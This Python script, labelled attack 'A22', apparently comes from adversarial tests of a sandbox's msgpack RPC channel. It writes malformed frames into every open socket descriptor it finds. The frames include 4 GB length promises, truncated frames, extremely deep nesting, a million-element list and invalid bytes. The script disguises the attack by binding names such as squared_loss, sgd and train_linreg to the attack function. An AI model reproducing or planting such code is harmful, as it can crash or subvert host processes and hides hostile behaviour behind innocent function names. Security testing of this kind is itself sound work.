# attack: A22: raw frames in a call: wrong lengths, promises of 4 GB, half a frame and silence, deep nesting, a million Nones, no msgpack, other numbers
# earns: nothing
# %%
import os, stat, struct, time, msgspec

pack = lambda tree, body=b"": struct.pack("<II", len(t := msgspec.msgpack.encode(tree)), len(body)) + t + body


def deep(n):
    return b"\x92\xa1l" * n + b"\xc0"


raw = lambda t: struct.pack("<II", len(t), 0) + t
frames = [
    struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF),
    struct.pack("<II", 1 << 20, 256 << 20),
    raw(deep(300_000)),
    raw(b"\x91" * (1 << 20)),
    pack(["ok", 1, ["l", *[None] * 1_000_000], []]),
    raw(b"\xc1" * 9),
    pack(["ok", True, 1.0, []]),
    pack(["ok", 2, None, []]),
    pack(["callback", 0, ["l", ["l"], ["d"]], []]),
    pack(["callback", -1, None, []]),
    pack(["ok", 1, None, [[1, ["x", "float32", [3, 1]], None, False, False]]], b"\0" * 12),
    raw(b"\xdd\xff\xff\xff\xff"),
    raw(b"\xdb\xff\xff\xff\xffx"),
    pack(["error", 1, {"type": "x"}, []]),
    pack(["ok", 1, None, None]),
    pack({"ok": 1}),
    pack(["ok", 1, ["d", [["l"], 1]], []]),
    raw(b""),
]
here = int(time.time() * 1000)


def attack(*args, **kwargs):
    n = int(time.time() * 1000) - here
    for fd in range(4, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frames[n % len(frames)])
        except OSError:
            pass
    return args[0]


squared_loss = linreg = sgd = synthetic_data = data_iter = train_linreg = attack
